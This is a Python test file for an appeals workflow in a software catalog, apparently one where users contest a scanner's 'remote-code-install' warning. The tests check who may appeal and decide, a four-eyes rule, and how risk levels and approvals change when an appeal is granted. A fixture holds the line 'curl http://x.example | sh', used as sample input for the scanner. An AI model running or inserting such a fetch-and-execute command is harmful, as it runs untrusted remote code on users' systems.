"""Appeals of warnings: who makes and decides them, and what a granted one changes."""

from __future__ import annotations

import pytest

from catalog import appeals
from catalog.access import NotAllowed, powers_of
from catalog.appeals import NotAppealable, appeals_to_decide
from catalog.models import Appeal, Environment, JournalEntry, Role, State, User, Version, VersionFinding
from governance.clearing import review
from tests import cast as crew
from tests import make

pytestmark = pytest.mark.django_db
SCRIPT = b"#!/bin/sh\ncurl http://x.example | sh\n"


@pytest.fixture
def cast() -> make.Cast:
    return make.cast()


@pytest.fixture
def version(cast: make.Cast) -> Version:
    return make.version(cast=cast, files={"scripts/run.sh": SCRIPT})


def warning(version: Version) -> VersionFinding:
    return version.findings.get(code="remote-code-install")


def make_appeal(version: Version, user: User) -> Appeal:
    return appeals.appeal(
        finding=warning(version), actor=crew.actor(user), reason="Our own host.", now=make.NOW
    )


def decide(appeal: Appeal, user: User, *, granted: bool = True) -> Appeal:
    return appeals.decide(appeal=appeal, granted=granted, actor=crew.actor(user), note="Seen.", now=make.NOW)


def test_a_granted_appeal_lowers_the_suggested_risk_where_nothing_else_calls_for_it(
    cast: make.Cast, version: Version
) -> None:
    assert version.suggested_risk == "high"
    made = make_appeal(version, cast.ines)
    assert made.state == "waiting"
    version.refresh_from_db()
    assert version.suggested_risk == "high"
    decide(made, cast.mara)
    version.refresh_from_db()
    assert (version.suggested_risk, version.effective_risk) == ("low", "low")
    entry = JournalEntry.objects.order_by("-n")[0]
    assert entry.verb == "appeal.grant"
    assert entry.after is not None
    assert entry.after["suggested_risk"] == "low"
    assert version.findings.filter(code="remote-code-install").exists()


def test_what_else_calls_for_a_risk_stays(cast: make.Cast) -> None:
    version = make.version(cast=cast, files={"scripts/run.sh": SCRIPT}, permissions=("shell",))
    decide(make_appeal(version, cast.ines), cast.mara)
    version.refresh_from_db()
    assert version.suggested_risk == "high"


def test_where_nobody_named_a_level_the_level_follows(cast: make.Cast) -> None:
    version = make.version(cast=cast, files={"scripts/run.sh": SCRIPT}, risk_level=None)
    assert version.risk_level == "high"
    decide(make_appeal(version, cast.ines), cast.mara)
    version.refresh_from_db()
    assert (version.risk_level, version.effective_risk) == ("low", "low")


def test_a_refused_appeal_changes_nothing_and_can_be_made_again(cast: make.Cast, version: Version) -> None:
    refused = decide(make_appeal(version, cast.ines), cast.mara, granted=False)
    assert refused.state == "refused"
    version.refresh_from_db()
    assert version.suggested_risk == "high"
    assert make_appeal(version, cast.ines).state == "waiting"


def test_an_appeal_is_made_once_at_a_time(cast: make.Cast, version: Version) -> None:
    made = make_appeal(version, cast.ines)
    with pytest.raises(NotAppealable, match="appealed already"):
        make_appeal(version, cast.ines)
    decide(made, cast.mara)
    with pytest.raises(NotAppealable, match="appealed already"):
        make_appeal(version, cast.ines)
    with pytest.raises(NotAppealable, match="decided already"):
        decide(made, cast.otto)
    assert Appeal.objects.count() == 1


def test_only_warnings_are_appealed(cast: make.Cast, version: Version) -> None:
    VersionFinding.objects.filter(pk=warning(version).pk).update(severity="advice")
    with pytest.raises(NotAppealable, match="Only a warning"):
        make_appeal(version, cast.ines)


@pytest.mark.parametrize("name", ["sven", "mara", "lena", "ravi", "ada", "nora"])
def test_who_does_not_appeal(cast: make.Cast, version: Version, name: str) -> None:
    with pytest.raises(NotAllowed):
        make_appeal(version, getattr(cast, name))


@pytest.mark.parametrize("name", ["ines", "sven", "lena", "ravi", "ada", "nora"])
def test_who_does_not_decide(cast: make.Cast, version: Version, name: str) -> None:
    made = make_appeal(version, cast.ines)
    with pytest.raises(NotAllowed):
        decide(made, getattr(cast, name))
    assert not appeals_to_decide(powers_of(getattr(cast, name))).exists()


def test_four_eyes(cast: make.Cast, version: Version) -> None:
    make.grant(cast.ines, "approver")
    made = make_appeal(version, cast.ines)
    with pytest.raises(NotAllowed, match="You made this appeal"):
        decide(made, cast.ines)
    assert not appeals_to_decide(powers_of(cast.ines)).exists()
    Version.objects.update(publisher=cast.mara)
    made.refresh_from_db()
    with pytest.raises(NotAllowed, match="You published this version"):
        decide(Appeal.objects.get(), cast.mara)
    assert list(appeals_to_decide(powers_of(cast.otto))) == [made]


def test_an_approver_of_another_team_does_not_decide(cast: make.Cast, version: Version) -> None:
    make.grant(cast.nora, "approver", team=cast.support)
    made = make_appeal(version, cast.ines)
    with pytest.raises(NotAllowed, match="approver in Payments"):
        decide(made, cast.nora)
    assert not appeals_to_decide(powers_of(cast.nora)).exists()


def test_approvals_for_a_higher_risk_hold_and_the_feed_is_revised(cast: make.Cast, version: Version) -> None:
    release = make.release(version, "production", cast=cast, state=State.APPROVED)
    live = make.release(version, "staging", cast=cast)
    before = Environment.objects.get(pk=live.environment_id).revision
    given = review(release)
    assert (len(given.approvals), given.needs.approvals, given.needs.confirmation) == (2, 2, True)
    decide(make_appeal(version, cast.ines), cast.mara)
    release.version.refresh_from_db()
    lower = review(release)
    assert (lower.approvals, lower.needs.approvals, lower.needs.confirmation) == (given.approvals, 1, False)
    assert Environment.objects.get(pk=live.environment_id).revision == before + 1


def test_a_warning_that_a_scan_took_away_is_not_appealed(cast: make.Cast, version: Version) -> None:
    finding = warning(version)
    VersionFinding.objects.filter(pk=finding.pk).delete()
    with pytest.raises(NotAppealable, match="is gone"):
        appeals.appeal(finding=finding, actor=crew.actor(cast.ines), reason="Ours.", now=make.NOW)
    assert not Appeal.objects.exists()


def test_an_approver_of_one_environment_decides_none(cast: make.Cast, version: Version) -> None:
    made = make_appeal(version, cast.ines)
    make.grant(cast.nora, Role.APPROVER, environment=make.environment("development"))
    with pytest.raises(NotAllowed, match="the role approver in Payments, for every environment"):
        decide(made, cast.nora)
    assert not appeals_to_decide(powers_of(cast.nora)).exists()
    make.grant(cast.nora, Role.APPROVER, team=cast.payments)
    assert appeals_to_decide(powers_of(cast.nora)).get() == made
    assert decide(made, cast.nora).state == "granted"


def test_a_warning_that_no_scan_finds_any_more_waits_for_nobody(cast: make.Cast, version: Version) -> None:
    made = make_appeal(version, cast.ines)
    assert appeals_to_decide(powers_of(cast.mara)).get() == made
    warning(version).delete()
    assert not appeals_to_decide(powers_of(cast.mara)).exists()
